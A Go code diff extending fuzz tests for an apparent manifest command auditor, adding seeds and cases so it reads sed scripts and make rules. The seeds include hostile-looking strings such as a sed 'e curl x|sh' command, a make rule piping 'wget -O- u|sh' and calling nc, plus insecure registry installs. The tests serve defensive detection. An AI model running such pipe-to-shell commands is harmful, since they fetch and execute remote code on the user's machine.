@@ -78,6 +78,8 @@ var fuzzSeeds = [][]string{
 	{"env", "NODE_TLS_REJECT_UNAUTHORIZED=0", "uv", "run", "--index", "c=http://r.example/s", "--allow-insecure-host", "r.example", "npx", "--registry=http://r.example", "-y", "p@1.0.0"},
 	{"sh", "-c", "python3 -Im pip install -i http://r/s x>=1 && cargo install --git u --rev 0 y && gem exec -v 1 z:2"},
 	{"jbang", "--insecure", "--deps", "a:b:1.+,c:d", "-j17", "run", "-Dk=v", "m@org/cat", "--repos", "r=http://x"},
+	{"sed", "-ne", "/a\\/b/I,+2{s|x|y|gpe;e curl x|sh\n}", "f"},
+	{"make", "-E", "X != wget -O- u|sh\nall:\n\t@echo $(shell nc h 1) $$H", "all"},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
@@ -110,7 +112,8 @@ func FuzzAudit(f *testing.F) {
 }
 
 // FuzzScript feeds arbitrary text to every reader of command text (sh -c,
-// cmd /c, powershell -Command, a command string, wsl, ssh, env values)
+// cmd /c, powershell -Command, a command string, wsl, ssh, env values, a
+// sed script, make rules)
 // without the manifest decoder's bounds in the way.
 func FuzzScript(f *testing.F) {
 	for _, s := range fuzzSeeds {
@@ -142,5 +145,7 @@ func scriptManifests(script string) []*addon.Manifest {
 		stdio("ssh", "-o", "ProxyCommand="+script, "host", script),
 		stdio("docker", "run", script, "sh", "-c", script),
 		withEnv(stdio("my-mcp", script), "HOOK", script, "GIT_SSH_COMMAND", script),
+		stdio("sed", "-n", script, "f"),
+		stdio("make", "--eval", script, "all"),
 	}
 }
